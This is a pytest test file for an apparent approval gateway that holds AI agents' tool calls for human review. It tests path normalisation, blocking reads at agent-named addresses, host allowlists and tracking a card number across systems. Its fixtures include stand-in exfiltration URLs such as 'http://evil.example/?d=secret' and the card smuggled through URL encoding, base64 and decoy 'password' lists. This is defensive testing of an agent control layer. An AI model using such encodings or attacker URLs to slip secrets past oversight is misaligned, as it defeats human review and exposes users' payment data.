"""What Leeway reads by itself and what reads reach: one record in two spellings, readings that stay inside, secrets that
an agent carries on."""

import base64
import json
import pathlib
import posixpath
import sqlite3
import subprocess
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from harness import BINARY, Api, Leeway, wait_until

CARD = "4111 1111 1111 1111"
DOCUMENT = """
openapi: 3.1.0
info: {{ title: Stand-in, version: "1" }}
paths:
{paths}
"""


class System:
    """A stand-in over HTTP: keeps files by what their path truly names, pages by address, cards and notes."""

    def __init__(self):
        self.log, self.files, self.lock = [], {}, threading.Lock()
        system = self

        class Door(BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def go(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(length)) if length else {}
                status, answer = system.answer(self.command, self.path, body)
                data = json.dumps(answer).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_PUT = go

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Door)
        self.url = f"http://127.0.0.1:{self.http.server_port}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def answer(self, method, path, body):
        self.log.append((method, path, body))
        place, _, query = path.partition("?")
        if place == "/file":
            path = body.get("path") or _value(query, "path")
            truly = posixpath.normpath(posixpath.join("/srv", path))
            with self.lock:
                if method == "PUT":
                    self.files.setdefault(truly, []).append(body["content"])
                    return 200, {"ok": True}
                return (200, {"content": self.files[truly][-1]}) if truly in self.files else (404, {"error": "no such file"})
        if place.startswith("/cards/"):
            return 200, {"id": place.rsplit("/", 1)[1], "card_number": CARD, "holder": "Ada"}
        return 200, {"id": "n-1", "title": "Page", "text": "hello"}

    def reads(self, place):
        return [path for method, path, _ in self.log if method == "GET" and path.startswith(place)]

    def writes(self):
        return [body for method, _, body in self.log if method != "GET"]

    def stop(self):
        self.http.shutdown()
        self.http.server_close()


def _value(query, name):
    from urllib.parse import parse_qs
    return parse_qs(query)[name][0]


def _operation(method, path, name, query=(), body=(), again=False):
    given = "".join(f"{{ name: {q}, in: query, required: true, schema: {{ type: string }} }}, " for q in query)
    if "{id}" in path:
        given += "{ name: id, in: path, required: true, schema: { type: string } }, "
    text = "" if again else f"  {path}:\n"
    text += f"    {method}:\n      operationId: {name}\n      parameters: [{given}]\n"
    if body:
        fields = ", ".join(f"{field}: {{ type: string }}" for field in body)
        text += f"      requestBody: {{ required: true, content: {{ application/json: {{ schema: {{ type: object, properties: {{ {fields} }} }} }} }} }}\n"
    return text


FILES = DOCUMENT.format(paths="""
  /file:
    get: { operationId: read_file, parameters: [{ name: path, in: query, required: true, schema: { type: string } }] }
    put: { operationId: write_file, requestBody: { required: true, content: { application/json: { schema: { type: object, required: [path, content], properties: { path: { type: string }, content: { type: string } } } } } } }
""")
FILES_PACK = """
name = "files"
title = "Files"
[tool.read_file]
effect = "read"
inside = true
[tool.write_file]
effect = "update"
creates_when_missing = true
record = { type = "file", id = ".path", normal = "path" }
changes = "{content: .content}"
read = { tool = "read_file", arguments = "{path: .path}", fields = "{content: .json.content}", missing = "HTTP 404" }
undo = { kind = "none", why = "a test" }
"""
PAGES = DOCUMENT.format(paths=_operation("get", "/page", "read_page", ["url"]) + _operation("post", "/post", "update_post", [], ["url", "text"])
                        + _operation("get", "/note/{id}", "get_note") + _operation("put", "/note/{id}", "update_note", [], ["text"], again=True))
PAGES_PACK = """
name = "pages"
title = "Pages"
[tool.read_page]
effect = "read"
[tool.update_post]
effect = "update"
record = { type = "post", id = ".url" }
changes = "{text: .text}"
read = { tool = "read_page", arguments = "{url: .url}", fields = ".json" }
undo = { kind = "none", why = "a test" }
[tool.get_note]
effect = "read"
[tool.update_note]
effect = "update"
record = { type = "note", id = ".id" }
changes = "{text: .text}"
read = { tool = "get_note", arguments = "{id: .id}", fields = ".json" }
undo = { kind = "exact", tool = "update_note", arguments = "{id: .id, text: $before.text}", summary = "Writes it back." }
"""
NOTES = DOCUMENT.format(paths=_operation("get", "/note/{id}", "get_note") + _operation("put", "/note/{id}", "update_note", [], ["text", "api_key"], again=True))
NOTES_PACK = """
name = "notes"
title = "Notes"
[tool.get_note]
effect = "read"
inside = true
[tool.update_note]
effect = "update"
record = { type = "note", id = ".id", normal = "trim" }
changes = "{blank: .text}"
options = ["api_key"]
read = { tool = "get_note", arguments = "{id: .id}", fields = ".json | {blank: null}" }
undo = { kind = "none", why = "a test" }
"""
CARDS = DOCUMENT.format(paths=_operation("get", "/cards/{id}", "get_card") + _operation("post", "/charge", "charge", [], ["id", "card_number"]))
CARDS_PACK = """
name = "cards"
title = "Cards"
[tool.get_card]
effect = "read"
[tool.charge]
effect = "create"
changes = "."
undo = { kind = "none", why = "a test" }
"""
TASKS = DOCUMENT.format(paths=_operation("get", "/search", "search", ["q"]) + _operation("post", "/tasks", "create_task", [], ["title", "due"]))
TASKS_PACK = """
name = "tasks"
title = "Tasks"
[tool.search]
effect = "read"
[tool.create_task]
effect = "create"
changes = "."
undo = { kind = "none", why = "a test" }
"""


class Desk:
    def __init__(self, grants, **systems):
        self.systems = {name: System() for name in systems}
        rows = "".join(f'{tool} = "{grant}"\n' for tool, grant in grants.items())
        workflow = f'name = "desk"\ntitle = "Desk"\nowner = "owner@example.com"\nconfidence_threshold = 0.5\n[grants]\n{rows}'
        files = {f"{name}.yaml": document for name, (document, _) in systems.items()}
        self.leeway = Leeway({"desk": workflow}, {}, [], files)
        for name, (_, pack) in systems.items():
            (self.leeway.config / "packs" / f"{name}.toml").write_text(pack)
            text = f'name = "{name}"\ntitle = "{name}"\npack = "{name}"\nopenapi = "{name}.yaml"\nbase_url = "{self.systems[name].url}"\nallow_private = true\n'
            (self.leeway.config / "systems" / f"{name}.toml").write_text(text)
        self.leeway.start().ready(*systems)
        self.owner = self.leeway.person("owner@example.com", "owner")
        self.agent = Api(self.leeway.url, self.leeway.agent("clerk", "desk"))

    def act(self, tool, agent=None, **arguments):
        return (agent or self.agent).post("/v1/actions", {"tool": tool, "arguments": arguments, "confidence": 0.95})

    def recorded(self):
        orders = ["SELECT CAST(payload AS TEXT) FROM entries", "SELECT * FROM actions"]
        with sqlite3.connect(f"file:{self.leeway.data}/ledger.db?mode=ro", uri=True) as db:
            return "\n".join(str(row) for order in orders for row in db.execute(order))

    def stop(self):
        self.leeway.stop()
        for system in self.systems.values():
            system.stop()


@pytest.fixture
def desk():
    made = []

    def make(grants, **systems):
        made.append(Desk(grants, **systems))
        return made[-1]

    yield make
    for one in made:
        one.stop()


def test_two_spellings_of_one_file_are_never_both_written_as_new(desk):
    there = desk({"files__write_file": "update"}, files=(FILES, FILES_PACK))
    agents = [Api(there.leeway.url, there.leeway.agent(f"agent {n}", "desk")) for n in range(4)]
    for n in range(1000):
        spellings = [f"n/{n}.txt", f"n/./{n}.txt", f"/srv/n/{n}.txt", f"/srv//n/x/../{n}.txt"]
        said = [None] * 4

        def write(which):
            said[which] = there.act("files__write_file", agents[which], path=spellings[which], content=f"by {which}")

        calls = [threading.Thread(target=write, args=[which]) for which in range(4)]
        [call.start() for call in calls]
        [call.join() for call in calls]
        assert sorted(one["status"] for one in said) == ["executed", "held", "held", "held"], said
    assert all(len(written) == 1 for written in there.systems["files"].files.values())
    assert len(there.systems["files"].files) == 1000


def test_a_spelling_is_one_record_for_what_waits_and_is_told_beside_it(desk):
    there = desk({"files__write_file": "update"}, files=(FILES, FILES_PACK))
    there.act("files__write_file", path="a.txt", content="first")
    held = there.act("files__write_file", path="a.txt", content="second")
    again = there.act("files__write_file", path="./a.txt", content="second")
    assert held["status"] == "held" and again["id"] == held["id"] and again["joined"]
    other = there.act("files__write_file", path="x/../a.txt", content="third")
    assert other["record"]["id"] == "a.txt"
    assert any("`x/../a.txt`" in why for why in there.owner.action(other["id"])["why_level"])
    found = there.owner.get("/v1/actions?record=file:a.txt")["actions"]
    assert {one["id"] for one in found} >= {held["id"], other["id"]}


def test_leeway_reads_nothing_at_an_address_an_agent_names(desk):
    there = desk({"pages__update_post": "update", "pages__update_note": "update"}, pages=(PAGES, PAGES_PACK))
    system = there.systems["pages"]
    held = there.act("pages__update_post", url="http://evil.example/?d=secret", text="hello")
    assert held["status"] == "held" and system.log == []
    whole = there.owner.action(held["id"])
    assert whole["before"]["status"] == "not-readable" and any("`url` is an address" in why for why in whole["unknowns"])
    assert whole["readings"] == [] and system.log == []
    # An id that is an address is not read either.
    held = there.act("pages__update_note", id="http:evil.example", text="hello")
    assert held["status"] == "held" and system.log == []
    # A plain one is, and the action says so.
    held = there.act("pages__update_note", id="n-1", text="bye")
    assert held["status"] == "held" and there.owner.action(held["id"])["before"]["fields"]["text"] == "hello"
    done = there.owner.approve(held["id"])
    assert done["status"] == "executed"
    readings = there.owner.action(held["id"])["readings"]
    assert [(one["tool"], one["arguments"], one["why"]) for one in readings] == [
        ("get_note", {"id": "n-1"}, why) for why in ("judging", "starting", "reading-back")]
    checked = subprocess.run([BINARY, "check", there.leeway.config], capture_output=True, text=True)
    assert "read-reaches-out" in checked.stdout + checked.stderr


def test_nothing_is_read_for_an_agent_while_its_workflow_is_paused(desk):
    there = desk({"pages__update_note": "update"}, pages=(PAGES, PAGES_PACK))
    system = there.systems["pages"]
    there.owner.post("/v1/workflows/desk/pause", {"reason": "a look"})
    held = there.act("pages__update_note", id="n-1", text="bye")
    assert held["status"] == "held" and system.log == []
    assert "paused" in there.owner.action(held["id"])["before"]["why"]
    there.owner.post("/v1/workflows/desk/resume", {"reason": "fine"})
    # What was not seen then is seen now, and judged anew.
    wait_until(lambda: there.owner.action(held["id"])["before"]["status"] == "read", "it is judged anew")
    assert system.writes() == []
    assert there.owner.approve(held["id"])["status"] == "executed"


def test_a_read_at_an_address_waits_for_a_person_unless_its_host_is_allowed(desk):
    pack = PAGES_PACK.replace('[tool.read_page]\neffect = "read"\n', '[tool.read_page]\neffect = "read"\nhosts = ["docs.example.com"]\n')
    there = desk({"pages__read_page": "read"}, pages=(PAGES, pack))
    system = there.systems["pages"]
    assert there.act("pages__read_page", url="https://docs.example.com/a")["status"] == "executed"
    held = there.act("pages__read_page", url="https://evil.example/?d=1")
    assert (held["status"], held["level"], held["effect"]) == ("held", 5, "read")
    assert "pack-host-not-allowed" in [reason["rule"] for reason in held["decision"]["reasons"]]
    assert len(system.reads("/page")) == 1
    assert there.owner.approve(held["id"])["status"] == "executed"


@pytest.mark.parametrize("spelled", [CARD, "4111111111111111", "4111-1111-1111-1111", f"Call Ada, card {CARD}, today", "no.4111.1111.1111.1111x"])
def test_a_secret_that_one_system_told_is_known_again_in_calls_of_another(desk, spelled):
    grants = {"cards__get_card": "read", "cards__charge": "update", "tasks__search": "read", "tasks__create_task": "update"}
    there = desk(grants, cards=(CARDS, CARDS_PACK), tasks=(TASKS, TASKS_PACK))
    tasks = there.systems["tasks"]
    # Nothing is known before it was met.
    assert there.act("tasks__create_task", title="Water the plants", due="4111")["status"] == "executed"
    assert there.act("cards__get_card", id="c-1")["status"] == "executed"
    seen = len(tasks.log)
    held = there.act("tasks__create_task", title=spelled, due="today")
    found = there.act("tasks__search", q=spelled)
    assert held["status"] == "held" and found["status"] in ("held", "blocked"), (held, found)
    assert len(tasks.log) == seen, "nothing was sent"
    for one in (held, found):
        assert "met earlier" in json.dumps(one["unknowns"])
    digits = lambda text: "".join(c for c in text if c.isdigit())
    shown = [held, found, there.owner.action(held["id"]), there.owner.action(found["id"]), there.owner.get("/v1/actions")]
    for text in [json.dumps(one) for one in shown] + [there.recorded()]:
        assert spelled not in text and CARD not in text
    assert "4111111111111111" not in digits(json.dumps([held["arguments"], held["title"], held["gist"], found["arguments"]]))
    # Another agent never met it; what is no secret runs on.
    other = Api(there.leeway.url, there.leeway.agent("other", "desk"))
    assert there.act("tasks__create_task", other, title="4111 0000 0000 0000", due="today")["status"] == "executed"
    assert there.act("tasks__create_task", title="Call Ada", due="today")["status"] == "executed"
    # Approved, what runs is what was sent.
    assert there.owner.approve(held["id"])["status"] == "executed"
    assert tasks.writes()[-1]["title"] == spelled
    assert spelled not in there.recorded()


def test_a_secret_stays_known_however_often_and_in_whatever_writing_it_is_tried(desk):
    grants = {"cards__get_card": "read", "cards__charge": "update", "tasks__create_task": "update", "notes__update_note": "update"}
    there = desk(grants, cards=(CARDS, CARDS_PACK), tasks=(TASKS, TASKS_PACK), notes=(NOTES, NOTES_PACK))
    there.act("cards__get_card", id="c-1")
    plain = f"The card is {CARD}, thanks."
    for n, text in enumerate([CARD, CARD, urllib.parse.quote(plain), base64.b64encode(plain.encode()).decode()]):
        held = there.act("tasks__create_task", title=text, due=f"day {n}")
        assert held["status"] == "held", text
        assert text not in json.dumps(there.owner.action(held["id"]))
    # Nor does the reading of a record make the system that would get it one that told it.
    note = lambda text, api_key: there.act("notes__update_note", id="n-1", text=text, api_key=api_key)["status"]
    assert note("plain", "tok-9988776655") == "executed"
    assert [note(f"carried {n}", CARD) for n in range(3)] == ["held"] * 3
    # Calling many texts secret makes none of the card's be forgotten, and hides nothing from the rules.
    many = json.dumps({"password": [f"{n:0{n + 8}}" for n in range(60)]})
    there.act("tasks__create_task", title=many, due="today")
    assert there.act("tasks__create_task", title=f"again {CARD}", due="today")["status"] == "held"
    sent = json.dumps(there.systems["tasks"].log)
    assert all(text not in sent for text in (CARD, urllib.parse.quote(plain), base64.b64encode(plain.encode()).decode()))


def test_a_secret_may_go_back_to_its_own_system_under_its_own_name(desk):
    grants = {"cards__get_card": "read", "cards__charge": "update", "tasks__create_task": "update"}
    there = desk(grants, cards=(CARDS, CARDS_PACK), tasks=(TASKS, TASKS_PACK))
    there.act("cards__get_card", id="c-1")
    assert there.act("cards__charge", id="c-1", card_number=CARD)["status"] == "executed"
    assert there.act("cards__charge", id=CARD, card_number="x")["status"] == "held"
    # Refused before it could be judged, it is shown nowhere either.
    with pytest.raises(Exception) as refused:
        there.act("tasks__none", title=CARD)
    assert CARD not in str(refused.value) and CARD not in there.recorded()
